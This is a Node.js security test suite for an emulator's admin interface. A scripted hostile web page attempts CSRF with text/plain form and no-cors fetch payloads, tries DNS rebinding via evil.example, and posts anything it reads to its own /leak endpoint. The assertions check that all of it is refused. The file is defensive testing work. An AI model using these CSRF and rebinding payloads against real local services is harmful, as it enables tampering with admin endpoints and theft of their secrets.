'use strict';
// The admin plane against a hostile web page, in headless Chromium (Debian's
// /usr/bin/chromium driven by playwright-core from tests/sdk):
//  - CSRF: a page on a second local origin (a tiny node server on another
//    port) submits text/plain forms and no-cors fetches to /_emu/reset,
//    /_emu/clock, /_emu/faults and the checkpoints, and tries to read
//    /_emu/world. Afterwards a proper request shows nothing changed, the
//    page's own server shows it read nothing, and acsemu's log shows the
//    attempts arrived and were refused (so the test cannot pass because the
//    browser never sent them).
//  - DNS rebinding: Chromium resolves evil.example to 127.0.0.1 (as a
//    rebinding attacker's DNS would), so a page of http://evil.example:PORT
//    reads /_emu/world same-origin: it gets 403, not the secrets.
//  - The console with --admin-token asks for the token and works with it.
const { test } = require('node:test');
const assert = require('node:assert');
const fs = require('node:fs');
const http = require('node:http');
const { start } = require('../support/emu');
const { CHROMIUM, launch } = require('../support/chromium');



// The attacker's page. Every attempt is one the browser sends without a
// preflight (form POSTs, fetch no-cors with a text/plain body) or a read.
function hostilePage(emuBase) {
  return `<!doctype html><meta charset="utf-8"><title>cute cats</title><body><script>
const E = ${JSON.stringify(emuBase)};
const log = [];
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
function formPost(p, name, value, enctype) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'f' + Math.random().toString(36).slice(2);
    document.body.append(frame);
    const f = document.createElement('form');
    f.method = 'POST'; f.action = E + p; f.target = frame.name; f.enctype = enctype;
    const i = document.createElement('input');
    i.type = 'hidden'; i.name = name; i.value = value;
    f.append(i); document.body.append(f);
    frame.addEventListener('load', () => resolve(), { once: true });
    setTimeout(resolve, 3000);
    f.submit();
  });
}
async function tryFetch(p, init) {
  try { const r = await fetch(E + p, init); log.push([p, init.method || 'GET', r.type, r.status]); return r; }
  catch (e) { log.push([p, init.method || 'GET', 'error', String(e)]); return null; }
}
(async () => {
  // The classic text/plain JSON body: name={"advance_seconds":3600,"x":" value="}
  for (const [p, name, value] of [
    ['/_emu/reset', '{"a":"', '"}'],
    ['/_emu/clock', '{"advance_seconds":3600,"x":"', '"}'],
    ['/_emu/faults', '{"error":"OTSServerBusy","count":1000,"x":"', '"}'],
    ['/_emu/checkpoints/pwned', '{"a":"', '"}'],
    ['/_emu/checkpoints/before/restore', '{"a":"', '"}'],
  ]) {
    await formPost(p, name, value, 'text/plain');
    await formPost(p, 'advance_seconds', '3600', 'application/x-www-form-urlencoded');
  }
  for (const p of ['/_emu/reset', '/_emu/clock', '/_emu/faults', '/_emu/checkpoints/pwned2',
    '/_emu/checkpoints/before/restore']) {
    await tryFetch(p, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' },
      body: '{"advance_seconds":3600,"error":"OTSServerBusy","count":1000}' });
    await tryFetch(p, { method: 'POST', mode: 'no-cors' });
    // JSON needs a preflight, which acsemu never grants.
    await tryFetch(p, { method: 'POST', headers: { 'content-type': 'application/json' },
      body: '{"advance_seconds":3600}' });
  }
  await tryFetch('/_emu/checkpoints/before', { method: 'DELETE' });
  // Reads: a CORS fetch and an XHR get nothing without Access-Control-Allow-Origin.
  let stolen = '';
  for (const p of ['/_emu/world', '/_emu/checkpoints', '/_emu/clock']) {
    const r = await tryFetch(p, {});
    if (r) { try { stolen += await r.text(); } catch (e) { log.push(['read', String(e)]); } }
    const r2 = await tryFetch(p, { mode: 'no-cors' });
    if (r2) { try { stolen += await r2.text(); } catch (e) { log.push(['read', String(e)]); } }
  }
  await new Promise((resolve) => {
    const x = new XMLHttpRequest();
    x.open('GET', E + '/_emu/world');
    x.onload = () => { stolen += x.responseText; resolve(); };
    x.onerror = () => resolve();
    x.send();
  });
  await fetch('/leak', { method: 'POST', body: JSON.stringify({ stolen, log }) });
  document.title = 'done';
})();
</script>`;
}

function hostileServer(emuBase) {
  const leaks = [];
  const server = http.createServer((req, res) => {
    if (req.method === 'POST' && req.url === '/leak') {
      let body = '';
      req.on('data', (d) => { body += d; });
      req.on('end', () => { leaks.push(JSON.parse(body)); res.end('ok'); });
      return;
    }
    res.setHeader('content-type', 'text/html; charset=utf-8');
    res.end(hostilePage(emuBase));
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({
    server, leaks, base: `http://127.0.0.1:${server.address().port}`,
  })));
}

test('a hostile page changes nothing and reads nothing', { timeout: 120000 }, async (t) => {
  assert.ok(fs.existsSync(CHROMIUM), `${CHROMIUM} is missing: scripts/setup installs Debian's chromium`);
  const browser = await launch({ args: ['--host-resolver-rules=MAP evil.example 127.0.0.1'] });
  const emu = await start();
  const hostile = await hostileServer(emu.base);
  t.after(async () => {
    await browser.close();
    hostile.server.close();
    await emu.stop();
  });
  // Known state: a checkpoint "before" at offset 0, then the clock 60 s on.
  assert.strictEqual((await emu.json('POST', '/_emu/checkpoints/before')).status, 200);
  assert.strictEqual((await emu.json('POST', '/_emu/clock', { advance_seconds: 60 })).status, 200);
  const worldBefore = (await emu.json('GET', '/_emu/world')).body;

  await t.test('CSRF from another local origin', async () => {
    const page = await browser.context.newPage();
    await page.goto(`${hostile.base}/`);
    await page.waitForFunction(() => document.title === 'done', null, { timeout: 90000 });
    await page.close();

    assert.strictEqual(hostile.leaks.length, 1, 'the page finished and reported');
    const { stolen, log } = hostile.leaks[0];
    assert.strictEqual(stolen, '', 'the page read an admin answer');
    assert.ok(log.length > 20, JSON.stringify(log));

    const clock = (await emu.json('GET', '/_emu/clock')).body;
    assert.strictEqual(clock.offset_ms, 60000, 'the clock moved (reset, restore or advance)');
    const cps = (await emu.json('GET', '/_emu/checkpoints')).body.checkpoints.map((c) => c.name);
    assert.deepStrictEqual(cps, ['before']);
    assert.deepStrictEqual((await emu.json('GET', '/_emu/faults')).body.rules, []);
    assert.deepStrictEqual((await emu.json('GET', '/_emu/world')).body, worldBefore);

    // The attempts reached acsemu and were refused there.
    const refused = emu.stderr.match(/ERR (ForbiddenOrigin|UnsupportedMediaType) .* admin /g) || [];
    assert.ok(refused.length >= 15, `only ${refused.length} refusals logged:\n${emu.stderr}`);
  });

  await t.test('DNS rebinding: a page of evil.example on acsemu\'s port reads nothing', async () => {
    const page = await browser.context.newPage();
    const nav = await page.goto(`http://evil.example:${emu.port}/_emu/`);
    assert.strictEqual(nav.status(), 403);
    // Now same-origin with acsemu's socket, as after a rebinding.
    const got = await page.evaluate(async () => {
      const out = [];
      for (const p of ['/_emu/world', '/_emu/clock']) {
        const r = await fetch(p);
        out.push({ status: r.status, text: await r.text() });
      }
      const w = await fetch('/_emu/clock', { method: 'POST', headers: { 'content-type': 'application/json' },
        body: '{"advance_seconds":3600}' });
      out.push({ status: w.status, text: await w.text() });
      const r = await fetch('/_emu/reset', { method: 'POST', headers: { 'content-type': 'application/json' } });
      out.push({ status: r.status, text: await r.text() });
      return out;
    });
    await page.close();
    for (const r of got) {
      assert.strictEqual(r.status, 403, r.text);
      assert.match(r.text, /ForbiddenHost/);
      assert.doesNotMatch(r.text, /AccessKeySecret|emu-secret|offset_ms/);
    }
    assert.strictEqual((await emu.json('GET', '/_emu/clock')).body.offset_ms, 60000);
  });
});

test('the console asks for the admin token and keeps it out of the URL', { timeout: 120000 }, async (t) => {
  const TOKEN = 'console-token-0123456789';
  const browser = await launch({ args: ['--host-resolver-rules=MAP evil.example 127.0.0.1'] });
  const emu = await start({ env: { ACSEMU_ADMIN_TOKEN: TOKEN } });
  t.after(async () => {
    await browser.close();
    await emu.stop();
  });
  const page = await browser.context.newPage();
  const problems = [];
  page.on('pageerror', (e) => problems.push(e.message));
  const r = await page.goto(`${emu.base}/_emu/`);
  assert.strictEqual(r.status(), 200);
  await page.locator('#token-box').waitFor({ state: 'visible' });
  assert.match(await page.textContent('#token-note'), /admin token/);

  await page.fill('#token', 'not-the-token');
  await page.click('#token-use');
  await page.locator('#token-box').waitFor({ state: 'visible' });
  assert.match(await page.textContent('#token-note'), /did not accept/);

  await page.fill('#token', TOKEN);
  await page.press('#token', 'Enter');
  await page.locator('#accounts [role="tab"]').first().waitFor();
  assert.ok(await page.isHidden('#token-box'));
  assert.strictEqual(page.url(), `${emu.base}/_emu/`);
  assert.strictEqual(await page.evaluate(() => sessionStorage.getItem('acsemu.adminToken')), TOKEN);
  // A reload in the same tab keeps working without asking again.
  await page.reload();
  await page.locator('#accounts [role="tab"]').first().waitFor();
  assert.ok(await page.isHidden('#token-box'));
  assert.deepStrictEqual(problems, []);
  assert.ok(!emu.stderr.includes(TOKEN), 'the token is in the log');
});
